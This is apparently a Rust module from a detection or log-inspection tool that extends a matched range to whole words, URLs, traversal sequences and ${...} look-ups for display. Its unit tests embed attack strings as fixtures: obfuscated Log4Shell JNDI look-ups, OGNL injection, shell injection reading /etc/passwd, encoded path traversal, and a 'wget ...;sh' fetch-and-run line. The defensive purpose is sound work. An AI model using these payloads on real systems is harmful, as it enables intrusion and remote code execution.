//! Completes evidence that has only a part of something: a look-up gets its last brace, an address
//! its end, a word its last letter.
//!
//! In: a text, and the range of it that meets a test. Out: the range that a person is shown. Tests
//! look for as few bytes as necessary. If only half of a word were marked, a person would think
//! that the rest does not matter. Decides nothing: which labels apply is decided before. Examines
//! some hundred bytes on either side, whatever they are.

use std::ops::Range;

use memchr::memmem;

use crate::slice::{self, contains_one, first, last};

/// Longest word that is completed; a longer run of letters and digits is data.
const MAX_WORD_BYTES: usize = 64;
/// Shortest run of one byte that is completed, and how many more bytes of it are marked at most.
const MIN_RUN_BYTES: usize = 16;
const MAX_RUN_BYTES: usize = 4096;
/// Shortest text that may be base64 with padding.
const MIN_BASE64_BYTES: usize = 12;
/// Ways to write `../`, and parts of such ways: plain, encoded, encoded twice.
const STEPS: [&[u8]; 10] = [
    b"../", b"..\\", b"%2e", b"%2f", b"%5c", b"%252e", b"%252f", b"%255c", b"%%32", b"%c0%af",
];
const PARTS_OF_STEPS: [&[u8]; 5] = [b".", b"/", b"\\", b"%65", b"%66"];
/// How far on either side of a match the beginning and the end of a look-up are searched; an
/// obfuscated look-up has some hundred bytes.
const MAX_LOOKUP_BYTES: usize = 1024;
/// How far before a match the beginning of an address is searched, and how far behind it the end; a
/// name in DNS has at most 255 bytes.
const MAX_ADDRESS_BYTES: usize = 300;
/// Longest name of a scheme.
const MAX_SCHEME_BYTES: usize = 16;
/// What is between scheme and host, also where percent-encoding hides it.
const AFTER_SCHEME: [&[u8]; 2] = [b"://", b"%3a%2f%2f"];
/// Length of the longest text of `AFTER_SCHEME`.
const MAX_SIGN_BYTES: usize = 9;

/// Returns the range, extended to whole words, steps, addresses and look-ups.
///
/// The text is in lower case. An empty range stays empty.
pub(crate) fn completed(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    if range.is_empty() || range.end > bytes.len() {
        return range;
    }
    let range = run(bytes, range);
    let range = steps(bytes, range);
    let range = word(bytes, range);
    let range = name(bytes, range);
    let range = address(bytes, range);
    lookup(bytes, range)
}

/// Completes words that are partly in the range, and escapes such as `%2f`.
fn word(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let begins_in_word = bytes[range.start].is_ascii_alphanumeric();
    let ends_in_word = bytes[range.end - 1].is_ascii_alphanumeric();
    let mut before = 0;
    let mut after = 0;
    // A run that is longer than the longest word is no word.
    if begins_in_word {
        let near = last(&bytes[..range.start], MAX_WORD_BYTES + 1);
        before = slice::run_at_end(near, u8::is_ascii_alphanumeric);
    }
    if ends_in_word {
        let near = first(&bytes[range.end..], MAX_WORD_BYTES + 1);
        after = slice::run(near, u8::is_ascii_alphanumeric);
    }
    if before > MAX_WORD_BYTES || after > MAX_WORD_BYTES {
        return range;
    }
    let mut start = range.start;
    if begins_in_word {
        start = escape_before(bytes, start, before).unwrap_or(start - before);
    }
    start..range.end + after
}

/// Completes what is written as several words: `curl/7` of `curl/7.54.0`, `.sql` of `dump.sql`,
/// `name` of `name@a.example`, base64 with its padding, and a parenthesis.
fn name(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let Range { mut start, mut end } = range;
    if bytes.get(start) == Some(&b'.') {
        start -= slice::run_at_end(last(&bytes[..start], MAX_WORD_BYTES), is_of_file);
    }
    let is_number = bytes[end - 1].is_ascii_digit();
    match &bytes[end..] {
        rest @ [b'.', b'0'..=b'9', ..] if is_number => {
            end += slice::run(first(rest, MAX_WORD_BYTES), is_of_version);
        }
        [b'@', host @ ..] if host.first().is_some_and(u8::is_ascii_alphanumeric) => {
            end += 1 + slice::run(first(host, MAX_WORD_BYTES), is_of_file);
        }
        rest @ [b'=', ..] if end - start >= MIN_BASE64_BYTES => end += padding(rest),
        _ => {}
    }
    if bytes.get(end) == Some(&b')') && is_open(&bytes[start..end]) {
        end += 1;
    }
    start..end
}

/// Tells whether the byte may be in the name of a file or of a host.
fn is_of_file(byte: &u8) -> bool {
    byte.is_ascii_alphanumeric() || b"_-.".contains(byte)
}

fn is_of_version(byte: &u8) -> bool {
    byte.is_ascii_digit() || *byte == b'.'
}

/// Returns how many `=` at the beginning are padding of base64; 0 if more text follows them.
fn padding(rest: &[u8]) -> usize {
    let length = if rest.starts_with(b"==") { 2 } else { 1 };
    match rest.get(length) {
        Some(byte) if byte.is_ascii_graphic() => 0,
        _ => length,
    }
}

/// Tells whether more parentheses are opened than closed.
fn is_open(bytes: &[u8]) -> bool {
    memchr::memchr_iter(b'(', bytes).count() > memchr::memchr_iter(b')', bytes).count()
}

/// Completes a run of one byte, such as an overflow of a buffer has.
fn run(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let filler = bytes[range.end - 1];
    let is_filler = |byte: &u8| *byte == filler;
    if slice::run_at_end(&bytes[range.clone()], is_filler) < MIN_RUN_BYTES {
        return range;
    }
    let after = first(&bytes[range.end..], MAX_RUN_BYTES);
    range.start..range.end + slice::run(after, is_filler)
}

/// Completes a way up through folders, step by step.
fn steps(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let within = &bytes[range.clone()];
    let has_sign = memchr::memchr2(b'.', b'%', within).is_some();
    if !has_sign || !contains_one(within, &STEPS) {
        return range;
    }
    let mut end = range.end;
    while end - range.end < MAX_LOOKUP_BYTES
        && let Some(step) = step_at_start(&bytes[end..])
    {
        end += step.len();
    }
    let mut start = range.start;
    while range.start - start < MAX_LOOKUP_BYTES
        && let Some(step) = step_at_end(&bytes[..start])
    {
        start -= step.len();
    }
    start..end
}

/// Returns the step, or the part of a step, with which the bytes begin.
fn step_at_start(bytes: &[u8]) -> Option<&'static [u8]> {
    let mut parts = STEPS.iter().chain(&PARTS_OF_STEPS);
    parts.find(|part| bytes.starts_with(part)).copied()
}

/// Returns the step, or the part of a step, with which the bytes end.
fn step_at_end(bytes: &[u8]) -> Option<&'static [u8]> {
    let mut parts = STEPS.iter().chain(&PARTS_OF_STEPS);
    parts.find(|part| bytes.ends_with(part)).copied()
}

/// Returns where the word begins, if an escape such as `%2f` begins just before the `letters`
/// letters and digits in front of `start`: the digits of the escape are not part of the word.
/// Returns `None` if there is no escape.
fn escape_before(bytes: &[u8], start: usize, letters: usize) -> Option<usize> {
    let sign = start.checked_sub(letters + 1)?;
    let digits = bytes.get(sign + 1..sign + 3)?;
    let is_escape = bytes[sign] == b'%' && digits.iter().all(u8::is_ascii_hexdigit);
    if !is_escape {
        return None;
    }
    match letters {
        // The range begins within the escape.
        0 | 1 => Some(sign),
        _ => Some(sign + 3),
    }
}

/// Completes an address whose scheme or host is partly in the range.
fn address(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let Some(sign) = sign_of_address(bytes, &range) else {
        return range;
    };
    let before = last(&bytes[..sign.start], MAX_SCHEME_BYTES);
    let scheme = slice::run_at_end(before, u8::is_ascii_alphanumeric);
    let start = sign.start - scheme;
    let limit = sign.end.max(range.end).saturating_add(MAX_ADDRESS_BYTES);
    let rest = &bytes[sign.end..bytes.len().min(limit)];
    let end_of_host = sign.end + length_until(rest, ends_host);
    let end = sign.end + length_until(rest, ends_address);
    let has_a_part = scheme > 0 && start < range.end && range.start < end_of_host;
    if has_a_part && range.end <= end {
        range.start.min(start)..end
    } else {
        range
    }
}

/// Returns the place of the last `://` near the range.
fn sign_of_address(bytes: &[u8], range: &Range<usize>) -> Option<Range<usize>> {
    let from = range.start.saturating_sub(MAX_ADDRESS_BYTES);
    let to = bytes.len().min(range.end.saturating_add(MAX_SIGN_BYTES));
    let mut found: Option<Range<usize>> = None;
    for sign in AFTER_SCHEME {
        if let Some(at) = memmem::rfind(&bytes[from..to], sign) {
            let start = from + at;
            if found.as_ref().is_none_or(|found| found.start < start) {
                found = Some(start..start + sign.len());
            }
        }
    }
    found
}

/// Returns the number of bytes before the first place that is an end.
fn length_until(rest: &[u8], is_end: fn(&[u8]) -> bool) -> usize {
    for at in 0..rest.len() {
        if is_end(&rest[at..]) {
            return at;
        }
    }
    rest.len()
}

/// Tells whether an address ends here: at a byte that no address has, or that stands around
/// addresses.
fn ends_address(rest: &[u8]) -> bool {
    match rest {
        [byte, ..] => !byte.is_ascii_graphic() || br#""'`<>(){}[]|\^;,&$"#.contains(byte),
        [] => true,
    }
}

fn ends_host(rest: &[u8]) -> bool {
    ends_address(rest) || rest.starts_with(b"%2f") || matches!(rest, [b'/' | b'?' | b'#', ..])
}

/// Completes `${…}`, `%{…}` or `#{…}` that is partly in the range, with the look-ups inside and
/// around it.
fn lookup(bytes: &[u8], range: Range<usize>) -> Range<usize> {
    let around = outermost(bytes, range.start);
    if let Some(end) = end_of_lookup(bytes, around, range.end) {
        return around..end;
    }
    // A look-up that began before the range and has no end does not count.
    if let Some(end) = end_of_lookup(bytes, range.start, range.end) {
        return range.start..end;
    }
    range.start..end_of_open(bytes, range.end)
}

/// Returns the first place from `end` on where no look-up is open that began at `start` or behind
/// it; `None` if one stays open.
fn end_of_lookup(bytes: &[u8], start: usize, end: usize) -> Option<usize> {
    let limit = bytes.len().min(end.saturating_add(MAX_LOOKUP_BYTES));
    let mut depth = 0_usize;
    for at in start..limit {
        if depth == 0 && at >= end {
            return Some(at);
        }
        match bytes[at] {
            b'{' if depth > 0 || is_opening(bytes, at) => depth += 1,
            b'}' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    (depth == 0).then_some(limit)
}

/// Returns where the outermost look-up begins that is open at `here`; `here` if none is open.
fn outermost(bytes: &[u8], here: usize) -> usize {
    let (mut start, mut closed) = (here, 0_usize);
    let limit = here.saturating_sub(MAX_LOOKUP_BYTES);
    for at in (limit..here).rev() {
        match bytes[at] {
            b'}' => closed += 1,
            b'{' if closed > 0 => closed -= 1,
            b'{' if is_opening(bytes, at) => start = at - 1,
            // The brace of JSON or of a program.
            b'{' | b'\n' => break,
            _ => {}
        }
    }
    start
}

fn is_opening(bytes: &[u8], brace: usize) -> bool {
    matches!(bytes[..brace], [.., b'$' | b'%' | b'#'])
}

/// Returns where a look-up without an end seems to end.
fn end_of_open(bytes: &[u8], from: usize) -> usize {
    let limit = bytes.len().min(from.saturating_add(MAX_ADDRESS_BYTES));
    let rest = bytes.get(from..limit).unwrap_or_default();
    from + slice::run(rest, |byte| {
        byte.is_ascii_graphic() && !b"\"'<>&".contains(byte)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Returns what is marked of a text if this part of it meets a test.
    fn marked<'a>(text: &'a str, part: &str) -> &'a str {
        let start = text.find(part).expect("it is there");
        &text[completed(text.as_bytes(), start..start + part.len())]
    }

    #[test]
    fn a_look_up_ends_at_its_brace() {
        for (text, part, expected) in [
            ("x ${jndi:ldap://x/a} y", "${jndi:", "${jndi:ldap://x/a}"),
            ("x ${jndi:ldap://x/a} y", "jndi:ldap:", "${jndi:ldap://x/a}"),
            (
                "${${lower:j}ndi:ldap://x/${env:a}}}",
                "${lower:",
                "${${lower:j}ndi:ldap://x/${env:a}}",
            ),
            (
                "a=${${::-j}${::-n}di:rmi://x/a};b",
                "${::-n}",
                "${${::-j}${::-n}di:rmi://x/a}",
            ),
            (
                "{\"a\":\"${jndi:dns://x}\"}",
                "jndi:dns:",
                "${jndi:dns://x}",
            ),
            ("%{(#a=@java@b).{c}} d", "@java@", "%{(#a=@java@b).{c}}"),
            // The look-up before the word does not count, the one around it does.
            ("${a} word {b}", "word", "word"),
            ("cat${ifs}/etc/passwd", "${ifs}", "${ifs}"),
            ("${never closed, word and word", "word", "word"),
            // The look-up has no end, or its end is too far away.
            ("${jndi:ldap://x/a and more", "${jndi:", "${jndi:ldap://x/a"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = format!("${{jndi:{}}}", "a".repeat(10_000));
        assert!(marked(&long, "${jndi:").len() <= 7 + MAX_LOOKUP_BYTES);
    }

    #[test]
    fn an_address_is_marked_to_its_end() {
        for (text, part, expected) in [
            (
                "\"http://a.example/b?c\" d",
                "http://",
                "http://a.example/b?c",
            ),
            (
                "wget http://a.example/b;sh",
                "wget http",
                "wget http://a.example/b",
            ),
            (
                "u=https://x1.oast.fun/p&v",
                "x1.oast.fun",
                "https://x1.oast.fun/p",
            ),
            (
                "u=http%3a%2f%2fx1.oast.fun%2fp&v",
                "x1.oast.fun",
                "http%3a%2f%2fx1.oast.fun%2fp",
            ),
            (
                "(+https://about.a.example/)",
                "about.a",
                "https://about.a.example/",
            ),
            ("x1.oast.fun", "x1.oast.fun", "x1.oast.fun"),
            // The path alone is not the address.
            ("http://a.example/../etc/passwd?x", "../", "/../"),
            ("http://a.example/ and word", "word", "word"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = format!("http://{}", "a/".repeat(10_000));
        assert!(marked(&long, "http").len() <= 7 + MAX_ADDRESS_BYTES);
    }

    #[test]
    fn a_word_is_marked_to_its_end() {
        for (text, part, expected) in [
            ("/wp-login.php", "wp-log", "wp-login"),
            ("mozilla/5.0 zgrabber/0.x", "zgrab", "zgrabber"),
            ("/administrator/", "/admin", "/administrator"),
            ("/a%2fpasswd", "passwd", "passwd"),
            ("/a%2fpasswd", "fpasswd", "%2fpasswd"),
            ("/cgi-bin/luci", "/cgi-bin/", "/cgi-bin/"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
        let long = "ab".repeat(50);
        assert_eq!(marked(&long, "aba"), "aba");
    }

    #[test]
    fn a_name_of_several_words_is_marked_to_its_end() {
        for (text, part, expected) in [
            ("curl/7.54.0 x", "curl/7", "curl/7.54.0"),
            ("/a/dump-1.sql", ".sql", "dump-1.sql"),
            ("(name@mail.a.example)", "name", "name@mail.a.example"),
            (
                "basic cm9vddphzg1pbg==\r\n",
                "basic cm9vddphzg1pbg",
                "basic cm9vddphzg1pbg==",
            ),
            ("4.0 (hydra)", "(hydra", "(hydra)"),
            ("a=1&b=2", "a=1", "a=1"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
    }

    #[test]
    fn runs_and_ways_up_are_marked_to_their_ends() {
        let long = format!("x={}&y", "A".repeat(1000));
        assert_eq!(marked(&long, &"A".repeat(100)).len(), 1000);
        for (text, part, expected) in [
            ("f=../../../etc/passwd", "../../", "../../../"),
            ("f=..%252f..%252f&x", "%252f", "..%252f..%252f"),
            ("/b/%%32%65%%32%65/c", "%%32", "/%%32%65%%32%65/"),
            ("/a/../b", "/b", "/b"),
        ] {
            assert_eq!(marked(text, part), expected, "{part} in {text}");
        }
    }

    #[test]
    fn no_bytes_panic() {
        let bytes: Vec<u8> = b"${%{http://%2f%3a%2f%2fa}}\n\"".repeat(3);
        for start in 0..bytes.len() {
            for end in start..=bytes.len() {
                let range = completed(&bytes, start..end);
                assert!(range.start <= start && range.end >= end && range.end <= bytes.len());
            }
        }
        assert_eq!(completed(b"", 0..0), 0..0);
        assert_eq!(completed(b"a", 0..2), 0..2);
    }
}
